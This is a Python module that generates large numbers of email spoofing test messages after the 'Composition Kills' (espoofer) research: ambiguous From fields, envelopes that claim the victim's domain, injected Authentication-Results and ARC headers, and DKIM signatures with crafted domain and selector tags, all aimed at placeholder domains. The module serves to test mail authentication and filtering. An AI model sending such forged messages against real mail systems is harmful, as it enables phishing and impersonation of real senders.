"""Spoofs of one domain by another, as many as one wants, the same ones for the same seed.

The forms are those of Chen et al., "Composition Kills" (espoofer), and their kin: From fields that two
readers read in two ways, envelopes that pass for somebody else, signatures that are not what they look
like. Each is to be sent from a client that SPF allows for the attacker's domain only."""

import base64
import hashlib
import itertools
import random

from dkim.canonicalization import Relaxed
from nacl.signing import SigningKey


class Spoof:
    """One message and its envelope. `forges_author`: some reader takes the victim for the author, so it
    must never leave as the victim's; without, the victim only stands where no reader looks for an author."""

    def __init__(self, name, helo, mail_from, content, forges_author):
        self.name, self.helo, self.mail_from = name, helo, mail_from
        self.content, self.forges_author = content, forges_author

    def __repr__(self):
        return f"<{self.name} {self.mail_from!r}>"


class Forger:
    """An attacker: a domain with SPF and a DKIM key. `key` is what its selector s1 publishes."""

    def __init__(self, victim="victim.test", attacker="attack.test", key=None, seed=1, recipient="user@fwd.test"):
        self.victim, self.attacker, self.recipient = victim, attacker, recipient
        self.rng = random.Random(seed)
        self.key = key or SigningKey(hashlib.sha256(f"spoofs {seed}".encode()).digest())
        self.boss, self.self = f"admin@{victim}", f"any@{attacker}"

    def spoofs(self, count=1000):
        """Every form once by itself, then mixtures of forms until there are `count`."""
        seen = set()
        numbers = itertools.count(1)
        for choice in itertools.chain(self.pure_choices(), self.mixed_choices()):
            author, envelope, trick, signature, mutation = choice
            from_fields, forges = author[1]
            helo, mail_from = envelope[1]
            fields = [self.mutated(field, mutation) for field in from_fields] + trick[1]
            key = (helo, mail_from, tuple(fields), signature[0])
            if key in seen:
                continue
            seen.add(key)
            number = next(numbers)
            name = f"{number:05d} {author[0]}/{envelope[0]}/{trick[0]}/{signature[0]}/{mutation}"
            yield Spoof(name, helo, mail_from, self.message(number, fields, signature[1]), forges)
            if number == count:
                return

    def pure_choices(self):
        author, envelope = ("plain", self.authors()["plain"]), ("own", self.envelopes()["own"])
        trick, signature = ("none", []), ("unsigned", self.signatures()["unsigned"])
        for one in self.authors().items():
            yield one, envelope, trick, signature, "as-is"
        for one in self.envelopes().items():
            yield author, one, trick, signature, "as-is"
        for one in self.tricks().items():
            yield author, envelope, one, signature, "as-is"
        for one in self.signatures().items():
            yield author, envelope, trick, one, "as-is"

    def mixed_choices(self):
        axes = [list(axis.items()) for axis in
                (self.authors(), self.envelopes(), self.tricks(), self.signatures())]
        while True:
            yield (*(self.rng.choice(axis) for axis in axes), self.rng.choice(MUTATIONS))

    # The From fields: name -> (fields, whether the victim may be taken for the author).

    def authors(self):
        boss, own = self.boss, self.self
        encoded = base64.b64encode(f"<{boss}>".encode()).decode()
        forged = {
            "plain": [f"From: {boss}"],
            "bracketed": [f"From: <{boss}>"],
            "named": [f"From: The Boss <{boss}>"],
            "subdomain": [f"From: <admin@mail.{self.victim}>"],
            "deep-subdomain": [f"From: <admin@a.b.c.d.e.f.g.h.i.{self.victim}>"],
            "two-fields": [f"From: <{own}>", f"From: <{boss}>"],
            "two-fields-turned": [f"From: <{boss}>", f"From: <{own}>"],
            "two-fields-alike": [f"From: <{boss}>", f"From: <{boss}>"],
            "three-fields": [f"From: <{own}>", f"From: <{boss}>", f"FROM: <{own}>"],
            "space-in-front": [f" From: <{own}>", f"From: <{boss}>"],
            "space-in-front-turned": [f" From: <{boss}>", f"From: <{own}>"],
            "space-before-colon": [f"From: <{own}>", f"From : <{boss}>"],
            "tab-before-colon": [f"From\t: <{boss}>", f"From: <{own}>"],
            "fold-before-colon": [f"From\r\n : <{own}>", f"From: <{boss}>"],
            "fold-before-colon-turned": [f"From\r\n : <{boss}>", f"From: <{own}>"],
            "fold-before-colon-alone": [f"From\r\n : <{boss}>"],
            "space-in-name": [f"Fr om: <{boss}>", f"From: <{own}>"],
            "control-in-name": [f"Fr\x01om: <{boss}>", f"From: <{own}>"],
            "byte-order-mark": [f"\ufeffFrom: <{boss}>", f"From: <{own}>"],
            "behind-junk": ["junk", f" From: <{boss}>", f"From: <{own}>"],
            "two-mailboxes": [f"From: <{own}>, <{boss}>"],
            "two-mailboxes-turned": [f"From: <{boss}>, <{own}>"],
            "bare-and-bracketed": [f"From: {boss},<{own}>"],
            "many-mailboxes": ["From: " + ", ".join([f"a@x{i}.test" for i in range(20)] + [boss])],
            "no-comma": [f"From: {own} {boss}"],
            "semicolon": [f"From: {own}; {boss}"],
            "empty-elements": [f"From: ,,{boss},,"],
            "encoded-address": [f"From: =?utf-8?B?{encoded}?=,<{own}>"],
            "encoded-whole": [f"From: =?utf-8?B?{encoded}?="],
            "encoded-domain": [f"From: admin@=?utf-8?q?{self.victim}?="],
            "route": [f"From: <@{self.attacker},@any.test:{boss}>"],
            "route-to-us": [f"From: <@{self.victim}:{own}>"],
            "quoted-comma": [f"From: <{boss}>\\,<{own}>"],
            "behind-brackets": [f"From: <{own}>{boss}"],
            "before-brackets": [f"From: {boss} <{own}>"],
            "before-brackets-turned": [f"From: {own} <{boss}>"],
            "two-brackets": [f"From: <{own}> <{boss}>"],
            "nested-brackets": [f"From: <<{boss}>>"],
            "bracket-in-bracket": [f"From: <{own}<{boss}>"],
            "open-bracket": [f"From: <{boss}"],
            "open-quote": [f'From: "Boss <{boss}>'],
            "open-comment": [f"From: {boss} (oh"],
            "group": [f"From: Staff: {boss};"],
            "group-of-two": [f"From: Staff: {own}, {boss};"],
            "group-and-mailbox": [f"From: Staff:;, {boss}"],
            "open-group": [f"From: Staff: {boss}"],
            "group-named-so": [f"From: {boss}: {own};"],
            "comment-in-domain": [f"From: admin@(x){self.victim}(.{self.attacker})"],
            "comment-in-local-part": [f"From: admin(@{self.attacker})@{self.victim}"],
            "comment-unclosed-in-domain": [f"From: admin@{self.victim}(.{self.attacker}"],
            "quote-in-domain": [f"From: admin@{self.victim}'.{self.attacker}"],
            "two-ats": [f"From: admin@{self.attacker}@{self.victim}"],
            "two-ats-turned": [f"From: admin@{self.victim}@{self.attacker}"],
            "quoted-local-part": [f'From: "{own}"@{self.victim}'],
            "quoted-brackets": [f'From: "<{own}>"@{self.victim}'],
            "spaces-around": [f"From: admin @ {self.victim}"],
            "spaces-in-domain": ["From: admin@" + self.victim.replace(".", " . ")],
            "trailing-dot": [f"From: <{boss}.>"],
            "upper-case": [f"From: <{boss.upper()}>"],
            "folded": ["From:\r\n\t<admin\r\n @\r\n " + self.victim + ">"],
            "full-width-at": [f"From: admin\uff20{self.victim}"],
            "full-width-letter": ["From: admin@" + chr(ord(self.victim[0]) + 0xFEE0) + self.victim[1:]],
            "ideographic-dot": ["From: admin@" + self.victim.replace(".", "\u3002")],
            "soft-hyphen": ["From: admin@" + self.victim[:2] + "\u00ad" + self.victim[2:]],
            "nothing-but-sender": [f"Sender: <{boss}>"],
            "nothing-but-resent": [f"Resent-From: <{boss}>"],
            "nothing-but-reply-to": [f"Reply-To: <{boss}>"],
            "empty": ["From:", f"Sender: <{boss}>"],
            "name-only": ["From: Boss", f"Sender: <{boss}>"],
        }
        shown = {
            "display-name": [f'From: "{boss}" <{own}>'],
            "display-name-in-brackets": [f'From: "<{boss}>" <{own}>'],
            "display-name-escaped": [f'From: "\\<{boss}\\>" <{own}>'],
            "display-name-encoded": [f"From: =?utf-8?B?{encoded}?= <{own}>"],
            "display-name-encoded-q": [f"From: =?utf-8?q?{boss.replace('@', '=40')}?= <{own}>"],
            "comment": [f"From: ({boss}) {own}"],
            "comment-behind": [f"From: {own} (<{boss}>)"],
            "group-name": [f'From: "{boss}": {own};'],
            "quoted-local-part-own": [f'From: "{boss}"@{self.attacker}'],
            "percent": [f"From: <admin%{self.victim}@{self.attacker}>"],
            "lookalike": [f"From: <admin@{self.victim}.{self.attacker}>"],
        }
        return {**{name: (fields, True) for name, fields in forged.items()},
                **{name: (fields, False) for name, fields in shown.items()}}

    # The claims of the client: name -> (HELO, MAIL FROM).

    def envelopes(self):
        v, a = self.victim, self.attacker
        return {
            "own": (a, f"any@{a}"),
            "helo-victim": (v, f"any@{a}"),
            "helo-below-victim": (f"mx.{v}", f"any@{a}"),
            "helo-literal": ("[127.0.0.1]", f"any@{a}"),
            "victim": (a, f"admin@{v}"),
            "victim-both": (v, f"admin@{v}"),
            "below-victim": (a, f"any@notexist.{v}"),
            "null": (a, ""),
            "null-helo-victim": (v, ""),
            "null-helo-below-victim": (f"mx.{v}", ""),
            "null-helo-mixed": (f"{v}.{a}", ""),
            "parenthesis-in-front": (a, f"(any@{v}"),
            "parenthesis-in-domain": (a, f"any@{v}(a.{a}"),
            "quote-in-domain": (a, f"any@{v}'@any.{a}"),
            "route": (a, f"@{v},@any.test:'any@{a}"),
            "quoted-address": (a, f'"admin@{v}"@{a}'),
            "quoted-brackets": (a, f'"<admin@{v}>"@{a}'),
            "quoted-spaces": (a, f'"admin@{v} "@{a}'),
            "quoted-escaped": (a, f'"admin\\@{v}"@{a}'),
            "quoted-results": (a, f'"x; spf=pass smtp.mailfrom=admin@{v}"@{a}'),
            "percent": (a, f"admin%{v}@{a}"),
            "bang": (a, f"{v}!admin@{a}"),
            "equals": (a, f"admin={v}@{a}"),
            "srs": (a, f"SRS0=aaaa=AA={v}=admin@{a}"),
            "prvs": (a, f"prvs=0123456789=admin={v}@{a}"),
            "two-ats": (a, f"admin@{v}@{a}"),
            "two-ats-turned": (a, f"admin@{a}@{v}"),
            "macro": (a, f"%{{h}}@{a}"),
            "upper-case": (a.upper(), f"ANY@{a.upper()}"),
        }

    # The rest of the header: name -> fields.

    def tricks(self):
        boss, own = self.boss, self.self
        return {
            "none": [],
            "sender-own": [f"Sender: <{own}>"],
            "sender-victim": [f"Sender: <{boss}>"],
            "sender-below-victim": [f"Sender: <s@sender.{self.victim}>"],
            "two-senders": [f"Sender: <{own}>", f"Sender: <{boss}>"],
            "resent-own": [f"Resent-From: <{own}>", f"Resent-Sender: <{own}>"],
            "resent-victim": [f"Resent-From: <{boss}>", f"Resent-Date: {DATE}"],
            "reply-to": [f"Reply-To: <{boss}>"],
            "return-path": [f"Return-Path: <{boss}>"],
            "results": [f"Authentication-Results: mx.fwd.test; dmarc=pass header.from={self.victim}"],
            "results-of-victim": [f"Authentication-Results: {self.victim}; spf=pass smtp.mailfrom={boss}"],
            "received-spf": [f"Received-SPF: pass (ok) identity=mailfrom; envelope-from={boss}"],
            "arc": [f"ARC-Authentication-Results: i=1; {self.attacker}; dmarc=pass header.from={self.victim}",
                    f"ARC-Message-Signature: i=1; a=ed25519-sha256; d={self.attacker}; s=s1; h=from; bh=AA==; b=AA==",
                    f"ARC-Seal: i=1; a=ed25519-sha256; cv=none; d={self.attacker}; s=s1; b=AA=="],
            "list": [f"List-Id: <list.{self.victim}>", f"List-Post: <mailto:list@{self.victim}>"],
            "from-in-subject": [f"Subject: Re\r\n From: {boss}"],
            "x-from": [f"X-From: {own}", f"From_: {own}"],
        }

    # The signatures: name -> function (fields, body) -> (signature fields, body).

    def signatures(self):
        v, a = self.victim, self.attacker

        def unsigned(fields, body):
            return [], body

        def signed(**tags):
            return lambda fields, body: ([self.signature(fields, body, **tags)], body)

        def both(fields, body):
            return [self.signature(fields, body, d=v), self.signature(fields, body)], body

        def partly(fields, body):
            return [self.signature(fields, body, l=str(len(body)))], body + b"<h1>More</h1>\r\n"

        def partly_nothing(fields, body):
            return [self.signature(fields, b"", l="0", d=v)], body

        def broken(fields, body):
            return [self.signature(fields, body).replace(" b=", " b=AAAA", 1)], body

        def changed_later(fields, body):
            return [self.signature(fields, body)], b"Changed. " + body

        def another_from(fields, body):
            own = [f"From: <{self.self}>"]
            rest = [f for f in fields if not f.lower().startswith("from")]
            return [self.signature(own + rest, body)], body

        def raw(text):
            return lambda fields, body: ([f"DKIM-Signature: {text}"], body)

        return {
            "unsigned": unsigned,
            "own": signed(),
            "own-identity-victim": signed(i=f"admin@{v}"),
            "own-identity-of-victim": signed(i=f"@{v}"),
            "own-identity-below": signed(i=f"admin@{v}.{a}"),
            "victim": signed(d=v),
            "victim-selector-own": signed(d=v, s=f"s1._domainkey.{a}"),
            "victim-selector-nul": signed(d=v, s=f"s1._domainkey.{a}.\x00.any"),
            "victim-selector-dot": signed(d=v, s=f"s1._domainkey.{a}."),
            "victim-nul-own": signed(d=f"{v}\x00.{a}"),
            "victim-parenthesis-own": signed(d=f"{v}(.{a}"),
            "victim-comment-own": signed(d=f"{v}(x).{a}"),
            "victim-quote-own": signed(d=f"{v}'a.{a}"),
            "victim-quotes-own": signed(d=f'{v}"=(.{a}'),
            "victim-space-own": signed(d=f"{v} .{a}"),
            "victim-folded": signed(d=f"\r\n {v}"),
            "victim-upper": signed(d=v.upper()),
            "below-victim": signed(d=f"mail.{v}"),
            "above-victim": signed(d=v.partition(".")[2]),
            "root": signed(d="."),
            "own-trailing-dot": signed(d=f"{a}."),
            "twice-d": signed(d=f"{a}; d={v}"),
            "twice-d-turned": signed(d=f"{v}; d={a}"),
            "without-from": signed(h="to:subject"),
            "from-twice": signed(h="from:from:to:subject"),
            "expired": signed(x="1000000000", d=v),
            "version-two": signed(v="2", d=v),
            "no-such-algorithm": signed(a="none", d=v),
            "sha1": signed(a="rsa-sha1", d=v),
            "query-elsewhere": signed(q=f"dns/{a}", d=v),
            "both": both,
            "length": partly,
            "length-nothing": partly_nothing,
            "broken": broken,
            "changed-later": changed_later,
            "another-from": another_from,
            "empty": raw(""),
            "no-values": raw("v=1; a=; b=; d=; s=; h=; bh="),
            "victim-without-signature": raw(f"v=1; a=rsa-sha256; d={v}; s=s1; h=from; bh=AA==; b="),
            "many": lambda fields, body: (
                [self.signature(fields, body, d=f"n{i}.{v}") for i in range(12)], body),
        }

    def signature(self, fields, body, **tags):
        """A DKIM-Signature by our key over what it says, however strange its tags are."""
        body_hash = base64.b64encode(hashlib.sha256(Relaxed.canonicalize_body(body)).digest()).decode()
        tags = {"v": "1", "a": "ed25519-sha256", "c": "relaxed/relaxed", "d": self.attacker, "s": "s1",
                "h": "from:to:subject", "bh": body_hash, **tags}
        field = "DKIM-Signature: " + "; ".join(f"{tag}={value}" for tag, value in tags.items()) + "; b="
        wanted = tags["h"].split(":")
        pairs = [tuple(f.encode("utf-8").split(b":", 1)) for f in reversed(fields) if ":" in f]
        chosen = []
        for name in wanted:
            at = next((p for p in pairs if p[0].strip().lower() == name.encode()), None)
            if at:
                pairs.remove(at)
                chosen.append((at[0].strip(), at[1] + b"\r\n"))
        octets = b"".join(name + b":" + value for name, value in Relaxed.canonicalize_headers(chosen))
        name, value = field.encode("utf-8").split(b":", 1)
        octets += b"dkim-signature:" + Relaxed.canonicalize_headers([(name, value + b"\r\n")])[0][1].rstrip()
        signed = self.key.sign(hashlib.sha256(octets).digest()).signature
        return field + base64.b64encode(signed).decode()

    def message(self, number, fields, sign):
        body = f"Dear victim,\r\n\r\nthis is number {number}.\r\n".encode()
        fields = fields + [f"To: <{self.recipient}>", f"Subject: Invoice {number}", f"Date: {DATE}",
                           f"Message-ID: <{number}@{self.attacker}>"]
        signatures, body = sign(fields, body)
        if fields[0].startswith(" "):  # such a field is only one at the very top
            fields = fields + signatures
        else:
            fields = signatures + fields
        return "".join(f + "\r\n" for f in fields).encode("utf-8") + b"\r\n" + body

    def mutated(self, field, mutation):
        """A From field in another spelling; what is no From field stays as it is."""
        name, colon, value = field.partition(":")
        if not colon or name.strip().lower() != "from":
            return field
        if mutation == "upper-name":
            return name.upper() + colon + value
        if mutation == "mixed-name":
            return "".join(c.upper() if self.rng.random() < 0.5 else c.lower() for c in name) + colon + value
        if mutation == "no-space":
            return name + colon + value.strip(" ")
        if mutation == "tabs":
            return name + colon + "\t \t" + value.strip(" ") + " \t"
        if mutation == "folded" and not value.startswith("\r\n"):
            return name + colon + "\r\n" + value if value.strip() else field
        if mutation == "folded-inside":
            return name + colon + value[:1] + value[1:].replace(" ", "\r\n ")
        if mutation == "comment":
            return name + colon + f" (by {self.self})" + value
        if mutation == "comment-behind":
            return name + colon + value + f" (for {self.self})"
        if mutation == "mixed-value":
            return name + colon + "".join(c.upper() if self.rng.random() < 0.3 else c for c in value)
        return field


DATE = "Tue, 24 Nov 2026 03:00:00 +0000"

MUTATIONS = ["as-is", "upper-name", "mixed-name", "no-space", "tabs", "folded", "folded-inside", "comment",
             "comment-behind", "mixed-value"]
